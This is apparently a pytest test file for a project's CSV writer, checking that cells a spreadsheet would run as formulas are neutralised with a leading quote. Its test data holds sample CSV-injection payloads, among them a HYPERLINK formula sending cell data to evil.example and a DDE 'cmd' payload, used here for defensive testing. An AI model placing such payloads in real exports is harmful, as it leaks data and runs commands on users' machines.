"""No CSV jamfor writes holds a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from jamfor.csv_output import csv_writer, neutralise


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&E3;"x")',
            '\'=HYPERLINK("http://evil.example/?d="&E3;"x")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign
        ("-12,5", "-12,5"),  # a plain number cannot run
        ("+3", "+3"),
        ("1e+20", "1e+20"),
        ("Ja", "Ja"),
        ("a=b", "a=b"),
        (None, ""),
        (37.5, "37.5"),
    ],
)
def test_formula_cells_are_written_as_text(cell: object, written: str) -> None:
    assert neutralise(cell) == written


def test_the_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    writer = csv_writer(out, delimiter=";")
    writer.writerow(["namn", "=1+1"])
    writer.writerows([["@x", "-5"]])
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        ["namn", "'=1+1"],
        ["'@x", "-5"],
    ]
